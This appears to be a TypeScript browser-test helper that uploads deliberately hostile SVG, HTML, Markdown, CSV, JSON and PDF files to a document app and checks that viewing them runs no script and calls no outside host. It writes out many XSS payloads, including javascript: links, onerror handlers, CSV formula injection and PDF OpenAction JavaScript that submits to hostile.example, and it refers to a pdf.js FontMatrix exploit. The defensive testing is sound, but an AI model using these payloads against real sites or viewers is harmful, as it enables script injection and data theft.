// Files that would run something if a page let them. Each is uploaded as a document; its page is looked at; and nothing
// may have run, asked or left. What ran would call `docketHostile`, open a dialog, or ask for something at `away`.

import { createHash } from "node:crypto";
import type { Page } from "playwright-core";
import type { Person } from "../person.ts";
import { upload } from "../transfer.ts";
import { settled, visit } from "./page.ts";

/** Where a hostile file would send what it knows. Nothing answers there. */
const away = "https://hostile.example";
const script = `globalThis.docketHostile=1;document.documentElement.dataset.hostile='1';fetch('${away}/told');alert('hostile')`;

/** One file, and what its page must show, so that an empty page is no success. */
export interface HostileFile {
  readonly name: string;
  readonly mediaType: string;
  readonly contents: Uint8Array;
  /** What is seen of it: a selector. */
  readonly shows: string;
}

/** The files. */
export const hostileFiles: readonly HostileFile[] = [
  text("script.svg", "image/svg+xml", drawing(), "main img"),
  text("disguised.svg", "image/png", drawing(), "main a[download]"),
  text(
    "page.html",
    "text/html",
    `<!doctype html><title>x</title><script>${script}</script><img src=x onerror="${script}"><iframe srcdoc="<script>parent.${script}</script>"></iframe>`,
    "text=<!doctype html>",
  ),
  text(
    "page.xhtml",
    "application/xhtml+xml",
    `<html xmlns="http://www.w3.org/1999/xhtml"><script>${script}</script></html>`,
    "text=xmlns",
  ),
  text("script.js", "text/javascript", script, "text=docketHostile"),
  text("nameless", "application/octet-stream", `<script>${script}</script>`, "main a[download]"),
  text("notes.md", "text/markdown", markdown(), "main article h1"),
  text(
    "cells.csv",
    "text/csv",
    `name,"<img src=x onerror=""${script}"">"\n"<script>${script}</script>",javascript:${script}\n=HYPERLINK("${away}"),2\n`,
    "main table",
  ),
  text(
    "data.json",
    "application/json",
    JSON.stringify({ "</script><script>": `<img src=x onerror="${script}">` }),
    "text=onerror",
  ),
  { name: "open-action.pdf", mediaType: "application/pdf", contents: hostilePdf(), shows: "main canvas" },
  text("broken.pdf", "application/pdf", "%PDF-1.7\nthis is none\n", "main a[download]"),
];

/** Uploads every file as a document of its own; ids by the files' names. */
export async function uploadHostileFiles(person: Person, workspaceId: string): Promise<Map<string, string>> {
  const ids = new Map<string, string>();
  for (const { name, mediaType, contents } of hostileFiles) {
    const file = {
      size: contents.byteLength,
      *chunks(offset = 0) {
        yield contents.subarray(offset);
      },
      sha256: () => createHash("sha256").update(contents).digest(),
    };
    const uploadId = await upload(person, { workspaceId, name, mediaType, file });
    const parent = { case: "workspaceId", value: workspaceId } as const;
    const { document } = await person.documents.createDocument({ parent, uploadId });
    ids.set(name, document?.id ?? "");
  }
  return ids;
}

/** Looks at one file's page. Returns what it did that it must not, in sentences; empty when it did nothing. */
export async function tryHostileFile(page: Page, file: HostileFile, documentId: string): Promise<string[]> {
  const wrong: string[] = [];
  const context = page.context();
  const dialog = (opened: { message(): string; dismiss(): Promise<void> }) => {
    wrong.push(`a dialog opened: ${opened.message()}`);
    void opened.dismiss();
  };
  const asked = new Set<string>();
  const request = (one: { url(): string }) => void asked.add(one.url());
  const opened = (popup: Page) => wrong.push(`a window opened: ${popup.url()}`);
  page.on("dialog", dialog);
  context.on("request", request);
  context.on("page", opened);
  try {
    await visit(page, `/d/${documentId}`);
    await page.locator(file.shows).first().waitFor({ timeout: 15_000 });
    await settled(page);
    // What waits for somebody to point at it, or to press it, gets its chance; links to elsewhere open nothing here.
    for (const thing of await page.locator("main article *, main table td, main canvas, main img").all())
      await thing.hover({ timeout: 500 }).catch(() => undefined);
    const { origin } = new URL(page.url());
    for (const url of asked)
      if (url.startsWith("http") && new URL(url).origin !== origin) wrong.push(`it asked for ${url}`);
    const ran = await page.evaluate<boolean>(
      "globalThis.docketHostile !== undefined || document.documentElement.dataset.hostile !== undefined",
    );
    if (ran) wrong.push("a script of the file ran");
    const bad = await page.evaluate<string[]>(
      `[...document.querySelectorAll("main [href], main [src], main [srcdoc]")]
        .filter((each) => /^\\s*(javascript|data:text|vbscript):/i.test(each.getAttribute("href") ?? each.getAttribute("src") ?? "") || each.hasAttribute("srcdoc"))
        .map((each) => each.outerHTML.slice(0, 120))`,
    );
    for (const html of bad) wrong.push(`the page holds ${html}`);
    const handlers = await page.evaluate<number>(
      `[...document.querySelectorAll("main article *")].filter((each) => each.getAttributeNames().some((name) => name.startsWith("on"))).length`,
    );
    if (handlers > 0) wrong.push(`the page holds ${handlers} handlers of the file`);
  } catch (error) {
    wrong.push(`it is not shown: ${String((error as Error).message).split("\n")[0]}`);
  } finally {
    page.off("dialog", dialog);
    context.off("request", request);
    context.off("page", opened);
  }
  return wrong;
}

function text(name: string, mediaType: string, contents: string, shows: string): HostileFile {
  return { name, mediaType, contents: new TextEncoder().encode(contents), shows };
}

function drawing(): string {
  return `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="200" height="100" onload="${script}">
  <script>${script}</script>
  <rect width="200" height="100" fill="#28a" onclick="${script}" onmouseover="${script}"/>
  <image xlink:href="${away}/picture.png" width="10" height="10"/>
  <foreignObject width="100" height="50"><body xmlns="http://www.w3.org/1999/xhtml"><iframe src="javascript:${script}"></iframe></body></foreignObject>
  <a xlink:href="javascript:${script}"><text x="10" y="60">press</text></a>
</svg>`;
}

function markdown(): string {
  return `# Harmless

<script>${script}</script>
<img src=x onerror="${script}">
<iframe src="javascript:${script}"></iframe>

[press](javascript:${script})
[press too](JaVaScRiPt&#58;${script})
[data](data:text/html,<script>${script}</script>)
<javascript:${script}>

![picture](${away}/picture.png)
![x" onerror="${script}](x)
[title](https://docket.example "x\\" onmouseover=\\"${script}")

<style>body{display:none}</style>
<form action="${away}"><button>send</button></form>
`;
}

/** A PDF with a page, and JavaScript on opening, on the page, behind a link and in a form. */
function hostilePdf(): Uint8Array {
  const code = "app.alert('hostile'); this.submitForm('https://hostile.example/told');";
  const action = `<</S/JavaScript/JS(${code.replaceAll("(", "\\(").replaceAll(")", "\\)")})>>`;
  const stream = "BT /F1 24 Tf 40 100 Td (Harmless) Tj ET";
  const objects = [
    `<</Type/Catalog/Pages 2 0 R/OpenAction ${action}/AA<</WC ${action}>>/Names<</JavaScript<</Names[(a) ${action}]>>>>/AcroForm<</Fields[6 0 R]/XFA(<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"/>)>>>>`,
    "<</Type/Pages/Kids[3 0 R]/Count 1>>",
    `<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 200]/Resources<</Font<</F1 5 0 R>>>>/Contents 4 0 R/AA<</O ${action}>>/Annots[6 0 R 7 0 R]>>`,
    `<</Length ${stream.length}>>stream\n${stream}\nendstream`,
    // A name of a font and a matrix were once ways to run code in pdf.js (CVE-2024-4367).
    "<</Type/Font/Subtype/Type1/BaseFont/Helvetica/FontMatrix[1 2 3 4 5 (1\\); alert\\('hostile'\\))]>>",
    `<</Type/Annot/Subtype/Widget/FT/Tx/T(field)/Rect[10 10 90 30]/AA<</K ${action}/F ${action}/Fo ${action}>>>>`,
    `<</Type/Annot/Subtype/Link/Rect[0 0 300 200]/A<</S/URI/URI(javascript:alert\\('hostile'\\))>>>>`,
  ];
  let out = "%PDF-1.7\n";
  const offsets = objects.map((body, index) => {
    const at = out.length;
    out += `${index + 1} 0 obj\n${body}\nendobj\n`;
    return at;
  });
  const table = out.length;
  out += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`;
  for (const at of offsets) out += `${String(at).padStart(10, "0")} 00000 n \n`;
  out += `trailer<</Size ${objects.length + 1}/Root 1 0 R>>\nstartxref\n${table}\n%%EOF\n`;
  return new TextEncoder().encode(out);
}
